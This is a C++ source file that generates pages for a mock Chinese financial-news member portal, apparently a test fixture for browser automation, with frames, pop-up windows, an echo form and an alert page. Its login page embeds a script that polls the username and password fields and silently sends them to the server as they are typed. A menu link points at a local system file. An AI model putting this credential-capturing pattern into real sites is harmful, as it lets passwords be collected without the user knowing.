#include "devservice/memberpages.h"

#include "devservice/htmltext.h"

#include <algorithm>
#include <cctype>

namespace
{

using H = HtmlText;

const char* const kStyle = R"(<style>
body{font-family:"WenQuanYi Micro Hei","Microsoft YaHei",sans-serif;font-size:13px;margin:8px;
color:#222;background:#fff}
a{color:#0645ad}h1,h2,h3{color:#b00000}
.banner{background:#b00000;color:#fff;margin:0;padding:10px 14px}
.banner h1{color:#fff;margin:0;font-size:22px}.banner span{font-size:12px}
.menu h3{margin:10px 0 4px;font-size:14px}.menu ul{margin:0;padding-left:16px}
.box{border:1px solid #e0c0c0;padding:10px 14px;margin:8px 0;background:#fffafa}
.err{color:#d00000}.meta{color:#777;font-size:12px}
</style>)";

std::string toUpper(std::string text)
{
    std::transform(text.begin(), text.end(), text.begin(),
                   [](unsigned char c) { return static_cast<char>(std::toupper(c)); });
    return text;
}

std::string itemLinks(const std::vector<ListCatalog::Item>& items, const std::string& target)
{
    std::string html = "<ul>";
    for (const auto& item : items) {
        html += "<li>[" + H::escape(item.category) + "] <a href=\"" + H::escape(item.path()) +
                "\" target=\"" + target + "\">" + H::escape(item.title) +
                "</a> <span class=\"meta\">" + H::escape(item.date) + "</span></li>";
    }
    return html + "</ul>";
}

} // namespace

std::string MemberPages::page(const std::string& title, const std::string& body,
                              const std::string& head)
{
    return "<!DOCTYPE html>\n<html lang=\"zh-CN\"><head><meta charset=\"utf-8\"><title>" +
           H::escape(title) + "</title>" + kStyle + head + "</head>\n<body>\n" + body +
           "\n</body></html>\n";
}

std::string MemberPages::frameset(int frames)
{
    // A frameset document has no body; the frames are counted in document order.
    static const char* const kFrames[4] = {
        "  <frame name=\"top\" src=\"/nc/top.asp\" scrolling=\"no\" noresize>\n",
        "    <frame name=\"menu\" src=\"/nc/menu.asp\">\n",
        "    <frame name=\"news\" src=\"/nc/news.asp\">\n",
        "    <frame name=\"main\" src=\"/nc/main.asp\">\n"};
    const int n = std::clamp(frames, 1, 4);
    std::string html = "<!DOCTYPE html PUBLIC \"-//W3C//DTD HTML 4.01 Frameset//EN\">\n"
                       "<html lang=\"zh-CN\"><head><meta charset=\"utf-8\">"
                       "<title>Zelvar快报 会员中心</title></head>\n"
                       "<frameset rows=\"64,*\" border=\"0\">\n";
    html += kFrames[0];
    if (n > 1) {
        static const char* const kCols[4] = {"", "*", "190,*", "190,280,*"};
        html += std::string("  <frameset cols=\"") + kCols[n - 1] + "\">\n";
        for (int i = 1; i < n; ++i)
            html += kFrames[i];
        html += "  </frameset>\n";
    }
    html += "  <noframes><body>您的浏览器不支持框架，请<a href=\"/nc/main.asp\">点此进入会员区"
            "</a>。</body></noframes>\n"
            "</frameset></html>\n";
    return html;
}

std::string MemberPages::top(const Site& site, const std::string& today)
{
    return page("Zelvar快报",
                "<div class=\"banner\"><h1>Zelvar快报 · 会员中心</h1><span>" + H::escape(today) +
                    " · 服务器 " + H::escape(site.host) + " · 专业 及时 权威</span></div>",
                "<style>body{margin:0}</style>");
}

std::string MemberPages::menu(const Site& site)
{
    const std::string wisdom = site.infoBase + "/wisdom.do?method=getWisdom&no=777&typ=4";
    const std::string wisdomIndex = site.infoBase + "/wisdom.do?method=index&userId=20261";
    const std::string market = "http://www." + site.marketDomain + "/shop/zelvar-vip.html";
    const std::string marketCaps = "http://WWW." + toUpper(site.marketDomain) + "/SHOP/INDEX.HTML";
    const std::string marketQuery =
        "/nc/go.asp?to=" + H::urlEncode("http://www." + site.marketDomain + "/");
    std::string body =
        "<div class=\"menu\">"
        "<h3>会员服务</h3><ul>"
        "<li><a id=\"lnk-home\" href=\"/nc/main.asp\" target=\"main\">会员首页</a></li>"
        "<li><a id=\"lnk-news\" href=\"/nc/news.asp\" target=\"news\">最新信息</a></li>"
        "<li><a id=\"lnk-item\" href=\"/nc/show.asp?id=10234\" target=\"main\">"
        "今日要闻</a></li>"
        "</ul><h3>新窗口</h3><ul>"
        "<li><a id=\"lnk-blank\" href=\"/nc/show.asp?id=10229\" target=\"_blank\">"
        "新窗口阅读</a></li>"
        "<li><a id=\"lnk-blank2\" href=\"/nc/show.asp?id=10231\" target=\"_blank\">"
        "资本动向(新窗口)</a></li>"
        "<li><button id=\"btn-open\" type=\"button\" "
        "onclick=\"window.open('/nc/newwin.asp')\">打开资讯窗口</button></li>"
        "<li><form id=\"frm-post\" method=\"post\" action=\"/nc/echo.asp\" "
        "target=\"_blank\">"
        "<input type=\"hidden\" name=\"from\" value=\"menu\">"
        "<input type=\"text\" name=\"keyword\" value=\"降准\" size=\"8\">"
        "<input id=\"btn-post\" type=\"submit\" value=\"搜索\"></form></li>"
        "</ul><h3>合作站点</h3><ul>"
        "<li><a id=\"lnk-market\" href=\"" +
        H::escape(market) +
        "\" target=\"_blank\">会员商城</a></li>"
        "<li><a id=\"lnk-market-caps\" href=\"" +
        H::escape(marketCaps) +
        "\" target=\"_blank\">商城首页</a></li>"
        "<li><a id=\"lnk-market-query\" href=\"" +
        H::escape(marketQuery) +
        "\" target=\"_blank\">前往商城</a></li>"
        "<li><a id=\"lnk-wisdom\" href=\"" +
        H::escape(wisdom) +
        "\" target=\"_blank\">首席智慧</a></li>"
        "<li><a id=\"lnk-wisdom-index\" href=\"" +
        H::escape(wisdomIndex) +
        "\" target=\"_blank\">智慧首页</a></li>"
        "<li><a id=\"lnk-file\" href=\"file:///etc/os-release\" target=\"_blank\">"
        "本地说明文件</a></li>"
        "</ul><h3>其它</h3><ul>"
        "<li><a id=\"lnk-alert\" href=\"/nc/alert.asp\" target=\"main\">"
        "系统公告</a></li>"
        "<li><a id=\"lnk-alert-blank\" href=\"/nc/alert.asp\" target=\"_blank\">"
        "系统公告(新窗口)</a></li>"
        "<li><a id=\"lnk-foreign\" href=\"" +
        H::escape(site.foreignBase + "/nc/i88-62.asp") +
        "\" target=\"_top\">友情链接</a></li>"
        "</ul></div>";
    return page("会员菜单", body);
}

std::string MemberPages::news(const std::vector<ListCatalog::Item>& items)
{
    return page("最新信息", "<h3>最新信息</h3>" + itemLinks(items, "main"));
}

std::string MemberPages::login(const std::string& problem)
{
    std::string body = "<h2>会员登录</h2>";
    if (!problem.empty())
        body += "<p class=\"err\" id=\"login-error\">" + H::escape(problem) + "</p>";
    body += "<form id=\"login\" method=\"post\" action=\"/nc/login.asp\">"
            "<table><tr><td>用户名：</td><td><input type=\"text\" name=\"UserName\" "
            "id=\"UserName\" size=\"20\"></td></tr>"
            "<tr><td>密　码：</td><td><input type=\"password\" name=\"UserPassword\" "
            "id=\"UserPassword\" size=\"20\"></td></tr>"
            "<tr><td></td><td><input type=\"submit\" id=\"btn-login\" value=\"登录\"></td></tr>"
            "</table></form>"
            "<p class=\"meta\">还不是会员？请联系客服开通Zelvar快报会员服务。</p>"
            "<script>(function () {\n"
            "  var last = null;\n"
            "  function report() {\n"
            "    var u = document.getElementById('UserName').value;\n"
            "    var p = document.getElementById('UserPassword').value;\n"
            "    var now = 'UserName=' + encodeURIComponent(u) +\n"
            "              '&UserPassword=' + encodeURIComponent(p);\n"
            "    if (now === last) return;\n"
            "    last = now;\n"
            "    new Image().src = '/nc/fields.asp?' + now;\n"
            "  }\n"
            "  report();\n"
            "  setInterval(report, 250);\n"
            "})();</script>";
    return page("会员登录", body);
}

std::string MemberPages::loginFirst()
{
    return page("请先登录", "<h2>请先登录</h2><p>您的登录已过期，请<a href=\"/nc/i88-62.asp\" "
                            "target=\"_top\">重新进入会员中心</a>。</p>");
}

std::string MemberPages::foreignTop()
{
    return page("其它网站",
                "<div class=\"banner\"><h1>其它网站</h1><span>不属于Zelvar快报"
                "</span></div>",
                "<style>body{margin:0}</style>");
}

std::string MemberPages::foreignPage(const std::string& title, const std::string& text)
{
    return page(title, "<h3>" + H::escape(title) + "</h3><p>" + H::escape(text) + "</p>");
}

std::string MemberPages::memberArea(const std::string& user,
                                    const std::vector<ListCatalog::Item>& items)
{
    std::string body = "<h2>会员区</h2><p id=\"welcome\">欢迎您，<b>" + H::escape(user) +
                       "</b>！ <a id=\"lnk-logout\" href=\"/nc/logout.asp\">退出登录</a></p>"
                       "<div class=\"box\"><h3>今日信息</h3>" +
                       itemLinks(items, "_self") + "</div>";
    return page("会员区", body);
}

std::string MemberPages::item(int id, const std::optional<ListCatalog::Item>& item)
{
    std::string title = item ? item->title : "Zelvar资讯第" + std::to_string(id) + "号";
    std::string category = item ? item->category : "Zelvar资讯";
    std::string date = item ? item->date : "";
    std::string body = "<h2 id=\"title\">" + H::escape(title) + "</h2><p class=\"meta\">" +
                       H::escape(category) + " " + H::escape(date) + " 编号 " + std::to_string(id) +
                       "</p><div class=\"box\" id=\"content\">"
                       "<p>据Zelvar快报记者了解，" +
                       H::escape(title) +
                       "。市场人士认为，此举释放出积极信号，有助于稳定市场预期。</p>"
                       "<p>分析人士指出，短期内相关板块有望获得资金关注，但投资者仍需注意控制"
                       "仓位，理性看待市场波动。</p>"
                       "<p>本信息仅供会员参考，不构成投资建议。</p></div>"
                       "<p><a id=\"lnk-back\" href=\"/nc/main.asp\">返回会员区</a> "
                       "<a id=\"lnk-item-blank\" href=\"/nc/show.asp?id=" +
                       std::to_string(id) + "\" target=\"_blank\">在新窗口中打开</a></p>";
    return page(title, body);
}

std::string MemberPages::echo(const std::string& method, const std::string& contentType,
                              const Fields& fields, const std::string& body)
{
    std::string html = "<h2>提交结果</h2><p>方式：<span id=\"method\">" + H::escape(method) +
                       "</span>　类型：<span id=\"content-type\">" + H::escape(contentType) +
                       "</span></p><table id=\"fields\" border=\"1\" cellpadding=\"4\">"
                       "<tr><th>字段</th><th>内容</th></tr>";
    for (const auto& [name, value] : fields) {
        html += "<tr><td class=\"name\">" + H::escape(name) +
                "</td><td class=\"value\" "
                "data-name=\"" +
                H::escape(name) + "\">" + H::escape(value) + "</td></tr>";
    }
    html += "</table><p>原始内容：</p><pre id=\"body\">" + H::escape(body) + "</pre>";
    return page("提交结果", html);
}

std::string MemberPages::newWindowPage()
{
    return page("Zelvar资讯窗口",
                "<h2>Zelvar资讯窗口</h2><p>这是由脚本打开的新窗口。</p><ul>"
                "<li><a id=\"lnk-blank\" href=\"/nc/show.asp?id=10233\" target=\"_blank\">"
                "再开一个窗口</a></li>"
                "<li><button id=\"btn-open\" type=\"button\" "
                "onclick=\"window.open('/nc/show.asp?id=10230')\">脚本打开新窗口</button></li>"
                "<li><form id=\"frm-post\" method=\"post\" action=\"/nc/echo.asp\" "
                "target=\"_blank\"><input type=\"hidden\" name=\"from\" value=\"newwin\">"
                "<input type=\"text\" name=\"keyword\" value=\"题材\">"
                "<input id=\"btn-post\" type=\"submit\" value=\"提交到新窗口\"></form></li>"
                "</ul>");
}

std::string MemberPages::alertPage()
{
    return page("系统公告",
                "<h2>系统公告</h2><p id=\"notice\">本页会弹出一条提示，并带有一个脚本错误。</p>"
                "<script>alert('Zelvar快报提示：系统将于今晚22:00维护。');</script>"
                "<script>zvUndefinedFunction();</script>"
                "<p id=\"after\">提示之后的内容。</p>");
}

std::string MemberPages::goPage(const std::string& target)
{
    return page("即将离开", "<h2>即将离开Zelvar快报</h2><p>您将前往：<a id=\"lnk-target\" href=\"" +
                                H::escape(target) + "\">" + H::escape(target) + "</a></p>");
}

std::string MemberPages::notFound(const std::string& path)
{
    return page("页面不存在", "<h2>404 页面不存在</h2><p>找不到 " + H::escape(path) +
                                  "。</p><p><a href=\"/nc/i88-62.asp\">返回会员中心</a></p>");
}
